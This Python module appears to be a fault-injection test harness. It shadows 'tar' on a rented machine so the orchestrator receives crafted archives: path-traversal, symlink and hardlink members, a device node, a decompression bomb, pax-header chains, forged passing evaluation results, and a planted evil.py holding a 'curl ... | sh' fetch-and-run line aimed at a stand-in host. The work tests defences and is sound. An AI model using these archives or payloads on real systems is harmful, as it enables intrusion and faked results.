"""The `evil` fault knob: an instance that answers with crafted archives and forged outputs.

A rented machine is a stranger's computer. With `evil` set, the instance's login wrapper puts
`<root>/evil/bin` first on PATH, where a `tar` shadows the real one: `tar -czf - -C DIR ...` (the
one command the orchestrator uses to bring a directory home, infra/ssh.py `get`) answers with DIR's
real content plus what the modes add; every other tar call (unpacking what we push) is the real
tar. Nothing else changes: the product still talks real SSH to a real sshd.

Modes (`evil: MODE` or a list of them; `evil_target: /abs/dir` is what the crafted members aim at,
default /tmp/qat-evil-target):

| mode | what the archive holds besides DIR's content |
|---|---|
| `abs_path` | a file named `<target>/pwned-abs` (absolute) |
| `dotdot` | a file named `../../../...<target>/pwned-dotdot` |
| `symlink` | `escape -> <target>`, then a file `escape/pwned-symlink` written through it |
| `hardlink` | `hard`, a hard link to `<target>` |
| `device` | `null-device`, a character device (1, 3) |
| `oversized` | `huge.bin` declaring 201 GB (over infra/archive.py's 200 GB cap; no data follows) |
| `too_many` | 200 001 directory members (over the 200 000 member cap) |
| `bad_name` | a file named `evil name\\n\\x1b[31m.txt` (a space, a newline, an escape sequence) |
| `deep_tree` | a file `d/d/.../pwned-deep`, 1100 levels deep |
| `pax_chain` | 2000 pax headers in a row before a file `after-chain.txt` |
| `bomb` | `bomb.bin`: 48 MiB of zeros (about 200 KB compressed) |
| `ignore_exclude` | the names its `--exclude=./NAME` options ask to leave out (a step's bulk outputs) |
| `deep_json` | in an `evaluate` directory: `result.json` nested 100 000 levels deep |
| `forge_result` | in an `evaluate` directory: `result.json` claims a passing gate with WERs of 1.0, and the quantized variant's `utterances_qat_int*.csv` hypotheses are replaced by junk (so the transcripts fail the gate) |
| `plant_py` | in a `convert` directory: `evil.py` and `weights.pkl` in every `qat_*` export folder |

Used as a program (`python evil.py tar ARGS...`, what `<root>/evil/bin/tar` runs) it reads the modes
from `<root>/evil/modes.json`.
"""
from __future__ import annotations

import csv
import gzip
import io
import json
import os
import pickle
import shlex
import shutil
import sys
import tarfile
import time
from pathlib import Path
from typing import Any, Iterable, Optional

ARCHIVE_MODES = ("abs_path", "dotdot", "symlink", "hardlink", "device", "oversized", "too_many", "bad_name",
                 "deep_tree", "pax_chain", "bomb")
OUTPUT_MODES = ("forge_result", "plant_py", "ignore_exclude", "deep_json")
MODES = ARCHIVE_MODES + OUTPUT_MODES
DEFAULT_TARGET = "/tmp/qat-evil-target"
REAL_TAR = next((t for t in ("/usr/bin/tar", "/bin/tar") if os.path.exists(t)), "tar")
OVERSIZED = 201 * 1000**3
TOO_MANY = 200_001
DEEP_TREE = 1100
PAX_CHAIN = 2000
BOMB = 48 * 1024 * 1024
DEEP_JSON = 100_000
PLANTED_PY = "import os\nos.system('curl -s https://evil.invalid/x | sh')\n"


def modes(value: Any) -> list[str]:
    """The knob's value as a list of known modes (None/False/"" = none); ValueError otherwise."""
    if value in (None, False, "", []):
        return []
    items = [value] if isinstance(value, str) else value
    if not isinstance(items, list) or not all(isinstance(m, str) for m in items):
        raise ValueError(f"evil must be a mode or a list of modes out of {list(MODES)}")
    unknown = [m for m in items if m not in MODES]
    if unknown:
        raise ValueError(f"unknown evil mode(s) {unknown}; known: {list(MODES)}")
    return list(items)


def install(root: Path, value: Any, target: Optional[str]) -> None:
    """Make `<root>/evil/` match the knob: bin/tar + modes.json when set, nothing when not."""
    d = Path(root) / "evil"
    chosen = modes(value)
    if not chosen:
        if d.exists():
            shutil.rmtree(d, ignore_errors=True)
        return
    (d / "bin").mkdir(parents=True, exist_ok=True)
    conf = json.dumps({"modes": chosen, "target": target or DEFAULT_TARGET})
    tmp = d / ".modes.json.tmp"
    tmp.write_text(conf)
    os.replace(tmp, d / "modes.json")
    script = (f"#!/bin/sh\nexec {shlex.quote(sys.executable)} {shlex.quote(str(Path(__file__).resolve()))} "
              f"tar {shlex.quote(str(d / 'modes.json'))} \"$@\"\n")
    tar = d / "bin" / "tar"
    if not tar.exists() or tar.read_text() != script:
        tmp = d / "bin" / ".tar.tmp"
        tmp.write_text(script)
        tmp.chmod(0o755)
        os.replace(tmp, tar)


# ---------------------------------------------------------------- the shadowing tar, on the instance

def _info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, **kw: Any) -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type, ti.size, ti.mode, ti.mtime = kind, size, 0o644 if kind != tarfile.DIRTYPE else 0o755, int(time.time())
    for k, v in kw.items():
        setattr(ti, k, v)
    return ti


def _add_bytes(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    tar.addfile(_info(name, size=len(data)), io.BytesIO(data))


def _forged_result(path: Path) -> bytes:
    """evaluate's result.json claiming a pass: every WER 1.0 and a passing gate."""
    try:
        result = json.loads(path.read_text())
    except (OSError, ValueError):
        result = {"step": "evaluate", "status": "ok"}
    metrics = result.setdefault("metrics", {})
    wer = metrics.get("wer") if isinstance(metrics.get("wer"), dict) else {}
    metrics["wer"] = {k: 1.0 for k in (wer or {"qat_fp32": 0, "qat_int8": 0, "base_ptq_int8": 0})}
    gate = metrics.get("gate") if isinstance(metrics.get("gate"), dict) else {}
    metrics["gate"] = {**gate, "passed": True, "qat_wer": 1.0, "qat_fp32_wer": 1.0, "ptq_wer": 1.0, "reasons": []}
    return json.dumps(result, indent=2).encode()


def _junk_hypotheses(path: Path) -> bytes:
    """The same CSV with every hypothesis replaced by junk words (its transcripts now fail)."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    out = io.StringIO(newline="")
    w = csv.writer(out, lineterminator="\n")
    for i, row in enumerate(rows):
        if i and len(row) > 2:
            row[2] = " ".join(["faux"] * 40)
        w.writerow(row)
    return out.getvalue().encode()


class _Zeros:
    """size zero bytes, read in chunks (tarfile.addfile copies a member's data with read(n))."""

    def __init__(self, size: int):
        self.left = size

    def read(self, n: int = -1) -> bytes:
        n = self.left if n is None or n < 0 else min(n, self.left)
        self.left -= n
        return bytes(n)


def _raw(tar: tarfile.TarFile, data: bytes) -> None:
    tar.fileobj.write(data)
    tar.offset += len(data)


def _honest(tar: tarfile.TarFile, src: Path, exclude: Iterable[str], chosen: list[str]) -> None:
    """src's content as `tar -C src .` would send it (links stay links), with the output modes applied."""
    tar.addfile(_info("./", tarfile.DIRTYPE))  # names as `tar -C src .` writes them: ./NAME
    is_eval, is_convert = src.name == "evaluate", src.name == "convert"
    for name in sorted(set(os.listdir(src)) - set(() if "ignore_exclude" in chosen else exclude)):
        path = src / name
        if "deep_json" in chosen and is_eval and name == "result.json":
            _add_bytes(tar, f"./{name}", ("[" * DEEP_JSON + "]" * DEEP_JSON).encode())
        elif "forge_result" in chosen and is_eval and name == "result.json":
            _add_bytes(tar, f"./{name}", _forged_result(path))
        elif "forge_result" in chosen and is_eval and name.startswith("utterances_qat_int") and name.endswith(".csv"):
            _add_bytes(tar, f"./{name}", _junk_hypotheses(path))
        else:
            tar.add(str(path), arcname=f"./{name}", recursive=True)
        if "plant_py" in chosen and is_convert and name.startswith("qat_") and path.is_dir():
            _add_bytes(tar, f"./{name}/evil.py", PLANTED_PY.encode())
            _add_bytes(tar, f"./{name}/weights.pkl", pickle.dumps({"payload": "os.system"}))


def _crafted(tar: tarfile.TarFile, mode: str, target: str) -> None:
    if mode == "abs_path":
        _add_bytes(tar, f"{target}/pwned-abs", b"written outside\n")
    elif mode == "dotdot":
        _add_bytes(tar, "../" * 40 + f"{target.lstrip('/')}/pwned-dotdot", b"written outside\n")
    elif mode == "symlink":
        tar.addfile(_info("escape", tarfile.SYMTYPE, linkname=target))
        _add_bytes(tar, "escape/pwned-symlink", b"written through a link\n")
    elif mode == "hardlink":
        tar.addfile(_info("hard", tarfile.LNKTYPE, linkname=target))
    elif mode == "device":
        tar.addfile(_info("null-device", tarfile.CHRTYPE, devmajor=1, devminor=3))
    elif mode == "oversized":
        tar.addfile(_info("huge.bin", size=OVERSIZED))  # the header only: the data never follows
    elif mode == "too_many":  # one directory header, repeated (written raw: addfile per member is slow)
        block = _info("d", tarfile.DIRTYPE).tobuf(tar.format, tar.encoding, tar.errors)
        for done in range(0, TOO_MANY, 10_000):
            n = min(10_000, TOO_MANY - done)
            tar.fileobj.write(block * n)
            tar.offset += len(block) * n
    elif mode == "bad_name":
        _add_bytes(tar, "evil name\n\x1b[31m.txt", b"crafted name\n")
    elif mode == "deep_tree":
        _add_bytes(tar, "d/" * DEEP_TREE + "pwned-deep", b"deep\n")
    elif mode == "pax_chain":  # each pax header is followed by another: tarfile recurses once per header
        payload = b"20 comment=abcdefgh\n"
        header = _info("././@PaxHeader", tarfile.XHDTYPE, size=len(payload)).tobuf(tarfile.USTAR_FORMAT)
        _raw(tar, (header + payload.ljust(tarfile.BLOCKSIZE, b"\0")) * PAX_CHAIN)
        _add_bytes(tar, "after-chain.txt", b"after the chain\n")
    elif mode == "bomb":
        tar.addfile(_info("bomb.bin", size=BOMB), _Zeros(BOMB))


def tar_main(conf_path: str, args: list[str]) -> int:
    """`tar -czf - -C DIR [--anchored] [--exclude=./NAME]... .` answers a crafted archive on stdout;
    anything else runs the real tar."""
    if not (len(args) >= 4 and args[0] == "-czf" and args[1] == "-" and "-C" in args and args[-1] == "."):
        os.execv(REAL_TAR, [REAL_TAR, *args])
    conf = json.loads(Path(conf_path).read_text())
    chosen, target = modes(conf.get("modes")), conf.get("target") or DEFAULT_TARGET
    src = Path(args[args.index("-C") + 1])
    exclude = [a[len("--exclude=./"):] for a in args if a.startswith("--exclude=./")]
    out = sys.stdout.buffer
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as gz:
        # GNU format: a crafted size over 8 GiB goes in base-256, as GNU tar writes it
        with tarfile.open(fileobj=gz, mode="w|", format=tarfile.GNU_FORMAT) as tar:
            _honest(tar, src, exclude, chosen)
            for mode in chosen:
                if mode in ARCHIVE_MODES:
                    _crafted(tar, mode, target)
    out.flush()
    return 0


if __name__ == "__main__":
    if len(sys.argv) >= 3 and sys.argv[1] == "tar":
        sys.exit(tar_main(sys.argv[2], sys.argv[3:]))
    sys.exit("usage: evil.py tar MODES_JSON TAR_ARGS...")
